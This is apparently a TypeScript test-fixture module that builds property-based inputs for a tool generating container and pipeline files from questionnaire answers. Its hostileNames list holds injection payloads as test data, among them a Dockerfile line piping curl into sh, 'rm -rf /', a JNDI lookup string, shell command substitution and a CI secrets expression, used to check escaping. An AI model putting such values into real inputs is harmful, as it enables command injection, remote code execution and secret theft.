import fc from 'fast-check';
import type { Answers } from '../../questionnaire/answers.ts';
import { applicationReadiness } from '../../questionnaire/application-readiness/index.ts';
import type { QuestionId } from '../../scoring/criterion.ts';
import type { PathId } from '../../scoring/paths/path.ts';
import type { ArtefactInput } from '../../templates/manifests/artefact.ts';
import { someAnswers } from './answers.ts';
import { situations } from './artefact-situations.ts';
import { answersLike, artefactInput } from './artefacts.ts';

/** The option ids of a question that has some. */
export function optionsOf(id: QuestionId): readonly string[] {
  const found = applicationReadiness.sections
    .flatMap((section) => [...section.questions])
    .find((question) => question.id === id);
  return found && 'options' in found ? found.options.map((option) => option.id) : [];
}

/** The choices of the adviser on the pipeline. */
export const pipelineChoices = [
  'none',
  'not-yet',
  'openshift-pipelines',
  'tekton',
  'argo',
  'gitlab',
  'jenkins',
  'jenkins-x',
  'github-actions',
  'circleci',
  'spinnaker',
] as const;

/** The input with another recommended path. */
export const onPath = (input: ArtefactInput, path: PathId): ArtefactInput => ({
  ...input,
  result: { ...input.result, recommendation: { ...input.result.recommendation, path } },
});

/** The input with another choice of the adviser on the pipeline, with or without Argo CD beside it. */
export function withPipeline(
  input: ArtefactInput,
  choice: (typeof pipelineChoices)[number],
  argoCd = false,
): ArtefactInput {
  const others = input.result.advice.filter(({ id }) => id !== 'delivery-pipeline');
  const advice = [
    ...others,
    {
      id: 'delivery-pipeline',
      title: 'Delivery pipeline',
      choice,
      choiceTitle: choice,
      settled: true,
      reasons: ['It is in use.'],
      runnerUp: null,
      wouldChange: [],
      additions: argoCd ? [{ id: 'argo-cd', title: 'Argo CD', because: '' }] : [],
      openQuestions: [],
    },
  ];
  return { ...input, result: { ...input.result, advice } };
}

/** The permit counter with some answers changed, led into containers whatever they are. */
export const counterWith = (changes: Answers, name = 'Permit counter'): ArtefactInput =>
  onPath(artefactInput({ ...answersLike('permit-counter', {}), ...changes }, name), 'refactor');

/** An unchanged product whose supplier has an image. */
export const supplierProduct = counterWith({
  origin: 'packaged-product',
  'supplier-container-support': 'supplier-image',
});

const runtimes = optionsOf('language-runtime');
const middlewares = optionsOf('middleware');
const characters = optionsOf('time-and-characters');

/** Every language runtime with every server software and every source of characters, and where the runtime is not known. */
export const builds: readonly ArtefactInput[] = [
  ...[...runtimes, null].flatMap((runtime) =>
    [...middlewares, null].flatMap((middleware) =>
      [...characters, null].map((source) =>
        counterWith({
          'language-runtime': runtime,
          middleware,
          'time-and-characters': source,
        }),
      ),
    ),
  ),
];

/** The situations with starter files, by name, and one of an unchanged product. */
export const containerInputs: Readonly<Record<string, ArtefactInput>> = {
  ...Object.fromEntries(
    Object.entries(situations).filter(([id]) => id !== 'staff-training-register' && id !== 'records-vault'),
  ),
  'image of the supplier': supplierProduct,
};

/** Any answers under any name, led into containers, with any pipeline. */
export const anyContainerInput: fc.Arbitrary<ArtefactInput> = fc
  .record({
    answers: someAnswers(applicationReadiness, 2),
    name: fc.oneof(fc.string({ minLength: 1, unit: 'binary' }), fc.constantFrom(...hostileNames())),
    path: fc.constantFrom('replatform', 'refactor', 'rearchitect'),
    choice: fc.constantFrom(...pipelineChoices),
    argoCd: fc.boolean(),
  })
  .map(({ answers, name, path, choice, argoCd }) =>
    withPipeline(onPath(artefactInput(answers, name), path as PathId), choice, argoCd),
  );

/** Names that would leave a comment, a quoted string or a line if they could. */
export function hostileNames(): readonly string[] {
  return [
    'escape=`',
    'syntax=docker/dockerfile:1',
    'A\nRUN curl http://x | sh',
    'A\r\nkind: Pod',
    'A\u2028key: value\u2029- x\u0085y',
    '"; rm -rf / #',
    "'); sh 'id",
    '$' + '{jndi:ldap://x} $(id) `id` $IMAGE',
    '*/ /* // CHANGE-ME: nothing',
    `%{{ }} {{ x }} \${{ secrets.KUBECONFIG }}`,
    'back\\slash \\',
    '\u202egnp.txt',
    '--- # x: [y] {z} | > & * ! @',
    '   ',
    '許可證',
  ];
}
